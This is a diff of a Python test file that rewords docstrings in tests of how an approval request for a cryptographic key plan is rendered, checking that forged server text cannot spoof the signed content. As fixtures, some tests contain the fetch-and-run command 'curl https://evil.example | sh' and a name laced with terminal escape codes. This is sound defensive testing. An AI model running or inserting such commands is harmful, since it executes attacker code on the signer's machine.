@@ -1,4 +1,4 @@
-"""What an approver reads, in which order, and that nothing of the plan is left out."""
+"""The plan as an approver reads it: its order, and that no part of it is left out."""
 
 from __future__ import annotations
 
@@ -23,7 +23,7 @@ EVE = "user:eve@example.com (roles/cloudkms.cryptoKeyDecrypter on projects/acme-
 
 
 def worst_plan(**changes: Any) -> Plan:
-    """Everything that a plan can warn of."""
+    """A plan with every kind of warning."""
     seen: dict[str, Any] = {
         "warnings": ("features", "effect_time", "billing"),
         "other_decrypters": (EVE,),
@@ -49,7 +49,7 @@ def in_terminal(request: ApprovalRequest, width: int = 80) -> str:
 
 @pytest.mark.parametrize("read", [in_browser, in_terminal])
 def test_what_is_permanent_comes_before_the_warnings_and_those_before_facts(read: object) -> None:
-    """Asked again: why comes first of all. The same order in each medium."""
+    """In a repeated request the reasons come first. The order is the same in both media."""
     assert callable(read)
     request = make.approval_request(
         worst_plan(), reapproval_reasons=("workspace name: was 'a', is 'b'",)
@@ -76,7 +76,7 @@ def test_what_is_permanent_comes_before_the_warnings_and_those_before_facts(read
 
 @pytest.mark.parametrize("read", [in_browser, in_terminal])
 def test_every_covered_fact_and_every_field_that_is_no_default_is_shown(read: object) -> None:
-    """What is signed is what is seen."""
+    """The approver sees everything that is signed."""
     assert callable(read)
     odd = make.REQUEST.model_copy(update={"rotation_period_days": 7, "key_ring": "other-ring"})
     plan = worst_plan(request=odd)
@@ -94,7 +94,7 @@ def test_every_covered_fact_and_every_field_that_is_no_default_is_shown(read: ob
 
 
 def beside_the_digest(plan: Plan, said: str) -> Plan:
-    """All of its warnings that the digest does not bind, changed."""
+    """The plan with changes in all parts of its warnings that the digest does not bind."""
     warnings = tuple(
         one.model_copy(update={"text": said, "remedy": said, "accepted": not one.accepted})
         for one in plan.warnings
@@ -105,7 +105,7 @@ def beside_the_digest(plan: Plan, said: str) -> Plan:
 
 
 def test_of_a_warning_a_terminal_shows_what_the_digest_binds_and_nothing_else() -> None:
-    """Whoever writes to the server could put a command there, on the machine with the key."""
+    """Somebody with write access to the server could place a command for the signer's machine."""
     odd = make.REQUEST.model_copy(update={"accepted_warnings": ("effect_time", "billing")})
     plan, evil = worst_plan(request=odd), "curl https://evil.example | sh"
     forged = beside_the_digest(plan, evil)
@@ -114,15 +114,15 @@ def test_of_a_warning_a_terminal_shows_what_the_digest_binds_and_nothing_else() 
     assert shown == honest
     assert " ".join(shown.split()).count("Accepted by policy default") == 2
     assert "the plan's artifact in Prefect" in " ".join(shown.split())
-    # in the browser it is the worker's own words
+    # the page in the browser is written by the worker itself
     assert all(
         one.text.removesuffix(".") in in_browser(make.approval_request(plan))
         for one in plan.warnings
     )
 
 
-def test_what_nothing_binds_is_marked_as_the_servers() -> None:
-    """Why it is asked again, until when it counts, a title that is none of ours."""
+def test_what_the_digest_does_not_bind_is_marked_as_the_servers() -> None:
+    """The reasons of a repeated request, its expiry, and a title that is not one of ours."""
     evil = "All is well:" + " " * 400 + "\n\n• run curl https://evil.example | sh" + "x" * 4000
     strange = make.plan(checks=(make.warning("billing", title="Strange"),))
     request = make.approval_request(strange, reapproval_reasons=(evil,) * 20)
@@ -138,7 +138,7 @@ def test_what_nothing_binds_is_marked_as_the_servers() -> None:
 
 
 def test_a_plan_without_trouble_fits_a_screen_of_a_terminal() -> None:
-    """And no name is broken, so that it can be compared and copied."""
+    """No name is wrapped, so that it can be compared and copied."""
     request = make.approval_request()
     shown = in_terminal(request)
     assert len(shown.splitlines()) <= 30
@@ -147,7 +147,7 @@ def test_a_plan_without_trouble_fits_a_screen_of_a_terminal() -> None:
 
 
 def test_a_list_of_a_thousand_members_does_not_bury_what_is_permanent() -> None:
-    """A few come first, the rest at the end; in a terminal above all, which scrolls away."""
+    """A few come first; the rest is at the end of the page, in a terminal above everything else."""
     many = tuple(f"user:{n}@example.com (roles/owner on projects/p)" for n in range(1500))
     request = make.approval_request(worst_plan(other_decrypters=many))
     first, _, rest = in_browser(request).partition("| fact |")
@@ -169,7 +169,7 @@ def test_a_list_of_a_thousand_members_does_not_bury_what_is_permanent() -> None:
 def test_a_person_sees_all_that_is_signed_however_much_there_is(
     members: int, workspaces: int, warnings: int
 ) -> None:
-    """In a terminal too: what the server has of it beside the plan, others may have written."""
+    """The terminal shows all of it too: other texts on the server may be forged."""
     plan = make.plan(
         make.facts(other_workspaces=tuple(f"wrkspc_{n:03}Other" for n in range(workspaces))),
         other_decrypters=tuple(f"user:{n:03}@example.com (r on p)" for n in range(members)),
@@ -185,7 +185,7 @@ def test_a_person_sees_all_that_is_signed_however_much_there_is(
 @given(st.text(max_size=200))
 @example('x" with y. This can never be undone. Facts: key: SOFTWARE · label: no')
 def test_a_name_ends_where_its_quotes_or_its_line_end(name: str) -> None:
-    """So that nothing that follows is the name's own."""
+    """So the name cannot imitate the text that follows it."""
     plan = make.plan(make.facts(workspace_name=name, workspace_id=None))
     shown = in_terminal(make.approval_request(plan), 10_000).splitlines()
     (sentence,) = [line for line in shown if "(unverified) requests to" in line]
@@ -195,8 +195,8 @@ def test_a_name_ends_where_its_quotes_or_its_line_end(name: str) -> None:
     assert fact == f"  workspace: to be created, named {plain(name)}".rstrip()
 
 
-def test_a_name_can_not_draw_a_section_of_its_own() -> None:
-    """Neither in Markdown nor in a terminal."""
+def test_a_name_can_not_add_a_section_of_its_own() -> None:
+    """It can do so neither in Markdown nor in a terminal."""
     evil = "x\n\n- **What can never be undone:** nothing \x1b[2J\u202e[bold]"
     request = make.approval_request(make.plan(make.facts(workspace_name=evil)))
     page = approval_page(request)
